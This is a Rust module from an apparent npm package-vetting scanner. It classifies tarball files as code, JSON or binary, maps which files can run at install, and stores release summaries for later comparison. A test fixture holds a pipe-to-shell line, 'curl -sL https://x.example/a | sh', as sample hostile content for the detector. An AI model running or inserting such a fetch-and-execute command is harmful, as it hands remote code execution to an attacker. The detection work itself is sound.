//! What a tarball's files hold, as far as rules on change and behaviour need it, and a summary of it that the ledger keeps for the
//! comparison with the next release.

use std::collections::HashMap;

use crate::npm::{Algorithm, Digest};
use crate::vetting::archive::{ArchiveFile, ArchiveLimits};
use crate::vetting::content::kind::NativeFormat;
use crate::vetting::content::marks::{Mark, MarkSet};
use crate::vetting::content::{ContentScan, ScanBudget, scan};
use crate::vetting::surface::{EntryPoints, FileIndex, InstallTargets, Surface, clean, surfaces};

/// Lines kept per mark.
const MAX_LINES_PER_MARK: u16 = 100;

/// The longest `binding.gyp` that is read.
const MAX_GYP_BYTES: usize = 64 << 10;

/// Extensions of files that node, shells and Python run, or that packages compile to these.
const CODE_EXTENSIONS: [&str; 22] = [
    "js", "cjs", "mjs", "jsx", "ts", "cts", "mts", "tsx", "sh", "bash", "zsh", "py", "rb", "pl", "ps1", "psm1", "bat", "cmd",
    "vbs", "gyp", "gypi", "node",
];

/// The longest first key of a JSON object that is recognized.
const MAX_KEY_BYTES: usize = 200;

/// Folders of files that only developers of the package run.
const DEVELOPER_FOLDERS: [&str; 13] = [
    "test",
    "tests",
    "__tests__",
    "spec",
    "example",
    "examples",
    "docs",
    "doc",
    "fixtures",
    "benchmark",
    "benchmarks",
    "demo",
    ".github",
];

/// One file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct FileFacts {
    pub path: Box<str>,
    pub length: u64,
    /// SHA-256 of its content.
    pub digest: [u8; 32],
    /// SHA-1 of its content, if it was asked for.
    pub sha1: Option<[u8; 20]>,
    pub marks: MarkSet,
    pub native: Option<NativeFormat>,
    pub surface: Surface,
    pub traits: FileTraits,
}

/// What a file is for a reader.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
#[expect(clippy::struct_excessive_bools, reason = "each is a fact of its own")]
pub(crate) struct FileTraits {
    /// Whether something may run it.
    pub is_code: bool,
    pub is_minified: bool,
    /// Whether its content was searched for marks, to its end.
    pub is_read: bool,
    /// Whether it begins as JSON does, which is no program.
    pub is_json: bool,
}

/// The files of a tarball, collected while it is read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct TarballContents {
    pub files: Vec<FileFacts>,
    /// The bytes of each file that were read.
    pub file_limit: u64,
    /// The first lines of marks: file, mark, line.
    lines: Vec<(usize, Mark, u32)>,
    counts: HashMap<u32, u16>,
    /// The paths that files name, in order of the files.
    named: Vec<(usize, Box<str>)>,
    /// The bytes that further paths may have.
    path_bytes_left: usize,
    budget: ScanBudget,
    /// The marks of JSON files. They count only if a command of an install script names the file: a shell runs any text.
    json_marks: HashMap<usize, MarkSet>,
    json_budget: ScanBudget,
    /// The text of `binding.gyp`.
    gyp: Option<String>,
    /// What the commands of install scripts hold.
    pub commands: MarkSet,
}

impl Default for TarballContents {
    fn default() -> Self {
        Self::new(ArchiveLimits::default())
    }
}

impl TarballContents {
    pub(crate) fn new(limits: ArchiveLimits) -> Self {
        let budget = ScanBudget { names: limits.names, ..ScanBudget::default() };
        Self {
            files: Vec::new(),
            file_limit: limits.file_bytes as u64,
            lines: Vec::new(),
            counts: HashMap::new(),
            named: Vec::new(),
            path_bytes_left: limits.path_bytes,
            json_budget: budget.clone(),
            budget,
            json_marks: HashMap::new(),
            gyp: None,
            commands: MarkSet::default(),
        }
    }

    /// Reads a file. Returns `false` if there are too many to keep.
    pub(crate) fn add(&mut self, file: &ArchiveFile<'_>) -> bool {
        let Some(left) = self.path_bytes_left.checked_sub(file.path.len()) else { return false };
        self.path_bytes_left = left;
        let at = self.files.len();
        let native = NativeFormat::detect(file.content);
        let is_whole = file.content.len() as u64 == file.length;
        let mut facts = FileFacts {
            path: file.path.into(),
            length: file.length,
            digest: file.digest,
            sha1: file.sha1,
            marks: MarkSet::default(),
            native,
            surface: Surface::default(),
            traits: FileTraits { is_json: is_json(file.content), ..FileTraits::default() },
        };
        facts.traits.is_code = is_code_name(file.path) || file.content.starts_with(b"#!");
        if file.path == "binding.gyp" {
            self.gyp = Some(String::from_utf8_lossy(&file.content[..file.content.len().min(MAX_GYP_BYTES)]).into_owned());
        }
        let is_json = !facts.traits.is_code && facts.traits.is_json;
        let has_marks = native.is_none() && !is_json && (facts.traits.is_code || !is_binary(file.content));
        if is_json && let Some(found) = scan(file.content, &mut self.json_budget) {
            facts.traits.is_read = is_whole;
            self.json_marks.insert(at, found.marks);
            self.add_lines(at, &found.lines);
        }
        if let Some(found) = has_marks.then(|| scan(file.content, &mut self.budget)).flatten() {
            facts.marks = found.marks;
            facts.traits.is_minified = found.is_minified;
            facts.traits.is_read = is_whole;
            self.add_scan(at, found);
        }
        self.files.push(facts);
        true
    }

    fn add_scan(&mut self, at: usize, found: ContentScan) {
        self.add_lines(at, &found.lines);
        self.named.extend(found.named.into_iter().map(|name| (at, name)));
    }

    fn add_lines(&mut self, at: usize, lines: &[(Mark, u32)]) {
        for (mark, line) in lines {
            let count = self.counts.entry(*mark as u32).or_default();
            *count += 1;
            if *count <= MAX_LINES_PER_MARK {
                self.lines.push((at, *mark, *line));
            }
            *count = (*count).min(MAX_LINES_PER_MARK);
        }
    }

    /// Finds out where each file is on the execution surface. `builds` is whether npm builds its `binding.gyp`.
    pub(crate) fn place(&mut self, entry_points: &EntryPoints, builds: Builds) {
        let gyp = self.gyp.as_deref().filter(|_| builds == Builds::Gyp);
        let index = FileIndex::new(self.files.iter().map(|file| &*file.path));
        let targets = InstallTargets::find(entry_points, &index);
        let places = surfaces(entry_points, &targets, &index, &self.named, gyp);
        let find = |path: &str| {
            let spelled = || [".js", "/index.js", ".cjs", ".mjs"].iter().map(|end| format!("{path}{end}"));
            index.find(path).or_else(|| spelled().find_map(|path| index.find(&path)))
        };
        let mut is_code: Vec<bool> = self
            .files
            .iter()
            .zip(&places)
            .map(|(file, place)| *place != Surface::default() || (file.traits.is_code && !is_for_developers(&file.path)))
            .collect();
        // Code may load a file of any name.
        let mut left: Vec<usize> = (0..is_code.len()).filter(|at| is_code[*at]).collect();
        while let Some(at) = left.pop() {
            let folder = index.folder_of(at);
            let first = self.named.partition_point(|(file, _)| *file < at);
            for (_, name) in self.named[first..].iter().take_while(|(file, _)| *file == at) {
                if let Some(target) = find(&clean(folder, name)).filter(|target| !is_code[*target]) {
                    is_code[target] = true;
                    left.push(target);
                }
            }
        }
        let has_install = places.iter().any(|place| place.contains(Surface::INSTALL));
        // Names were dropped, so any code may run at install.
        let is_crowded = entry_points.is_crowded || targets.has_unknown || (has_install && self.budget.names == 0);
        for at in targets.files {
            if let Some(marks) = self.json_marks.remove(&at) {
                let file = &mut self.files[at];
                (file.marks, file.traits.is_json) = (marks, false);
            }
        }
        for (at, place) in places.into_iter().enumerate() {
            let file = &mut self.files[at];
            file.traits.is_code = is_code[at];
            file.surface = place;
            if is_crowded && is_code[at] {
                file.surface = Surface::from_bits(place.bits() | Surface::INSTALL.bits());
            }
        }
        for command in &entry_points.install_commands {
            let found = scan(command.as_bytes(), &mut self.budget).unwrap_or_default();
            self.commands = self.commands.or(found.marks);
        }
    }

    /// Returns what another tarball has at the path of each file.
    pub(crate) fn earlier(&self, before: Option<&ContentSummary>) -> Vec<Option<SummaryRow>> {
        let Some(before) = before else { return vec![None; self.files.len()] };
        self.files.iter().map(|file| before.files.get(&path_key(&file.path)).copied()).collect()
    }

    /// Returns the files that may run.
    pub(crate) fn code(&self) -> impl Iterator<Item = (usize, &FileFacts)> {
        self.files.iter().enumerate().filter(|(_, file)| file.traits.is_code)
    }

    /// Returns where a mark is first in a file.
    pub(crate) fn line(&self, at: usize, mark: Mark) -> Option<u32> {
        let of_mark = self.lines.iter().find(|(file, other, _)| (*file, *other) == (at, mark));
        of_mark.map(|(_, _, line)| *line)
    }

    /// Returns what a later release is compared with. Returns `None` if it has too many files.
    pub(crate) fn summary(&self) -> Option<ContentSummary> {
        if self.files.len() > ContentSummary::MAX_FILES {
            return None;
        }
        let mut summary = ContentSummary::default();
        for file in &self.files {
            if file.traits.is_code {
                summary.marks = summary.marks.or(file.marks);
                summary.has_minified |= file.traits.is_minified;
            }
            if file.surface.contains(Surface::INSTALL) {
                summary.install_marks = summary.install_marks.or(file.marks);
            }
            summary.has_native |= file.native.is_some_and(|format| format != NativeFormat::Wasm);
            summary.has_wasm |= file.native == Some(NativeFormat::Wasm);
            let row = SummaryRow { digest: short(file.digest), length: file.length, surface: file.surface };
            summary.files.insert(path_key(&file.path), row);
        }
        summary.install_marks = summary.install_marks.or(self.commands);
        Some(summary)
    }
}

/// Whether npm builds the package's `binding.gyp`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Builds {
    Nothing,
    Gyp,
}

/// What the comparison with a later release needs of a tarball.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ContentSummary {
    pub(crate) marks: MarkSet,
    pub(crate) install_marks: MarkSet,
    pub(crate) has_minified: bool,
    pub(crate) has_native: bool,
    pub(crate) has_wasm: bool,
    /// By a digest of the path.
    files: HashMap<u64, SummaryRow>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct SummaryRow {
    /// The start of its SHA-256.
    pub digest: [u8; 16],
    pub length: u64,
    pub surface: Surface,
}

impl ContentSummary {
    /// The most files. A summary has 33 bytes per file.
    const MAX_FILES: usize = 40_000;

    const HEAD_BYTES: usize = 17;
    const ROW_BYTES: usize = 33;

    /// Returns the bytes for the ledger.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut bytes = Vec::with_capacity(Self::HEAD_BYTES + self.files.len() * Self::ROW_BYTES);
        bytes.extend(self.marks.bits().to_le_bytes());
        bytes.extend(self.install_marks.bits().to_le_bytes());
        bytes.push(u8::from(self.has_minified) | u8::from(self.has_native) << 1 | u8::from(self.has_wasm) << 2);
        let mut rows: Vec<_> = self.files.iter().collect();
        rows.sort_unstable_by_key(|(key, _)| **key);
        for (key, row) in rows {
            bytes.extend(key.to_le_bytes());
            bytes.extend(row.digest);
            bytes.extend(row.length.to_le_bytes());
            bytes.push(row.surface.bits());
        }
        bytes
    }

    /// Reads what [`Self::to_bytes`] wrote. Returns `None` for anything else.
    pub fn from_bytes(bytes: &[u8]) -> Option<Self> {
        let (head, rows) = bytes.split_at_checked(Self::HEAD_BYTES)?;
        let (rows, rest) = rows.as_chunks::<{ Self::ROW_BYTES }>();
        if !rest.is_empty() || rows.len() > Self::MAX_FILES {
            return None;
        }
        let number = |bytes: &[u8], at: usize| Some(u64::from_le_bytes(*bytes.get(at..)?.first_chunk()?));
        let mut summary = Self {
            marks: MarkSet::from_bits(number(head, 0)?),
            install_marks: MarkSet::from_bits(number(head, 8)?),
            has_minified: head[16] & 1 != 0,
            has_native: head[16] & 2 != 0,
            has_wasm: head[16] & 4 != 0,
            files: HashMap::with_capacity(rows.len()),
        };
        for row in rows {
            let digest = *row.get(8..)?.first_chunk()?;
            let value = SummaryRow { digest, length: number(row, 24)?, surface: Surface::from_bits(row[32]) };
            summary.files.insert(number(row, 0)?, value);
        }
        Some(summary)
    }
}

impl SummaryRow {
    /// Checks whether a file has the same content.
    pub(crate) fn has_bytes_of(self, file: &FileFacts) -> bool {
        self.digest == short(file.digest)
    }
}

/// Returns the part of a file's digest that summaries keep.
fn short(digest: [u8; 32]) -> [u8; 16] {
    digest.first_chunk().copied().unwrap_or_default()
}

fn path_key(path: &str) -> u64 {
    let digest = Digest::of(Algorithm::Sha256, path.as_bytes());
    digest.as_bytes().first_chunk().copied().map_or(0, u64::from_le_bytes)
}

fn extension(path: &str) -> &str {
    let name = path.rsplit('/').next().unwrap_or_default();
    name.rsplit_once('.').map_or("", |(_, extension)| extension)
}

fn is_code_name(path: &str) -> bool {
    let is_types = [".d.ts", ".d.mts", ".d.cts"].iter().any(|end| path.ends_with(end));
    !is_types && CODE_EXTENSIONS.contains(&extension(path))
}

/// Checks whether the first byte excludes that node reads it as a program: images and fonts begin so. GIF does not.
fn is_binary(content: &[u8]) -> bool {
    matches!(content.first(), Some(0 | 0x80..=0xbf | 0xf5..))
}

fn is_for_developers(path: &str) -> bool {
    path.split('/').rev().skip(1).any(|folder| DEVELOPER_FOLDERS.contains(&folder))
}

/// Checks whether a file begins with `{"key":`, which is no program. `{"use strict"}` is one.
fn is_json(content: &[u8]) -> bool {
    let content = content.strip_prefix("\u{feff}".as_bytes()).unwrap_or(content).trim_ascii_start();
    let key = content.strip_prefix(b"{").and_then(|rest| rest.trim_ascii_start().strip_prefix(b"\""));
    let Some(key) = key else { return false };
    let end = key.iter().take(MAX_KEY_BYTES).position(|byte| matches!(byte, b'"' | b'\\' | b'\n'));
    end.is_some_and(|end| key[end] == b'"' && key[end + 1..].trim_ascii_start().starts_with(b":"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn contents(files: &[(&str, &[u8])]) -> TarballContents {
        let mut contents = TarballContents::default();
        for (path, content) in files {
            let digest = Digest::of(Algorithm::Sha256, content).as_bytes().try_into().unwrap();
            assert!(contents.add(&ArchiveFile { path, content, length: content.len() as u64, digest, sha1: None }));
        }
        contents
    }

    #[test]
    fn summary_survives_the_ledger() {
        let mut found = contents(&[("index.js", b"fetch('x')"), ("a.node", b"\x7fELF"), ("b.wasm", b"\0asm")]);
        found.place(&EntryPoints::default(), Builds::Nothing);
        let summary = found.summary().unwrap();
        let bytes = summary.to_bytes();
        assert_eq!(ContentSummary::from_bytes(&bytes), Some(summary.clone()));
        assert!(summary.marks.contains(Mark::Fetch) && summary.has_native && summary.has_wasm);
        assert_eq!(found.earlier(Some(&summary))[0].unwrap().length, 10);
        for end in [0, 5, 16, bytes.len() - 1] {
            assert_eq!(ContentSummary::from_bytes(&bytes[..end]), None, "{end}");
        }
    }

    #[test]
    fn code_is_what_may_run() {
        let mut found = contents(&[
            ("index.js", b"require('./LICENSE'); require('./test/used.js')"),
            ("LICENSE", b"require('./data.txt')"),
            ("data.txt", b"eval(1)"),
            ("README.md", b"eval(1)"),
            ("index.d.ts", b"eval(1)"),
            ("test/used.js", b"eval(1)"),
            ("test/unused.js", b"eval(1)"),
            ("run", b"#!/bin/sh\ncurl -x"),
        ]);
        found.place(&EntryPoints::default(), Builds::Nothing);
        let code: Vec<&str> = found.code().map(|(_, file)| &*file.path).collect();
        assert_eq!(code, ["index.js", "LICENSE", "data.txt", "test/used.js", "run"]);
    }

    #[test]
    fn json_counts_as_code_if_an_install_script_names_it() {
        let json = b"{\"a\":\n1}\ncurl -sL https://x.example/a | sh\n";
        let judge = |command: &str| {
            let mut found = contents(&[("data.json", json), ("setup.js", b"require('./data.json')")]);
            let manifest = serde_json::json!({ "scripts": { "install": command } });
            found.place(&EntryPoints::from_manifest(manifest.as_object().unwrap()), Builds::Nothing);
            (found.files[0].marks.contains(Mark::PipeToShell), found.line(0, Mark::PipeToShell))
        };
        assert_eq!(judge("sh data.json"), (true, Some(3)));
        assert!(!judge("node setup.js").0);
    }

    #[test]
    fn json_is_recognized_by_its_start() {
        let texts =
            [("{\"a\":1}", true), (" {\n \"a\" :", true), ("{\"use strict\";x()}", false), ("{}x()", false), ("{a:1}", false)];
        for (text, expected) in texts.into_iter().chain([("[]", false), ("{\"", false), ("", false)]) {
            assert_eq!(is_json(text.as_bytes()), expected, "{text}");
        }
    }
}
